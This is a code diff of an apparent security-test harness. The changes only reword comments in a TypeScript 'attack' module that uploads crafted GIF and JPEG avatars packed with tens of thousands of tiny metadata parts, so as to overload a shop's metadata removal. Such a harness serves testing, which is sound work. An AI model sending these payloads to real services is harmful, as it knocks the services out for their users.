@@ -6,7 +6,10 @@ const SIZES = [480_000, 2_400_000];
 const UPLOADS = 24;
 const AT_ONCE = 4;
 
-/** One guest sends avatars with tens of thousands of tiny parts; every other part is metadata to remove. */
+/**
+ * One guest uploads avatars with tens of thousands of tiny parts. Every other part is metadata that the shop
+ * removes.
+ */
 export const attack: Attack = {
   async prepare(url) {
     const { visitor, leave } = visitorFrom(url, ATTACKER);
@@ -63,7 +66,7 @@ function gif(size: number): Picture {
   return { type: 'image/gif', bytes: Buffer.concat([start, ...times(pair, size), end]) };
 }
 
-/** Comments and empty restart intervals before a missing picture. */
+/** Returns a JPEG of comments and empty restart intervals, without a picture. */
 function jpeg(size: number): Picture {
   const pair = Buffer.from('fffe0002' + 'ffdd00040000', 'hex');
   return {
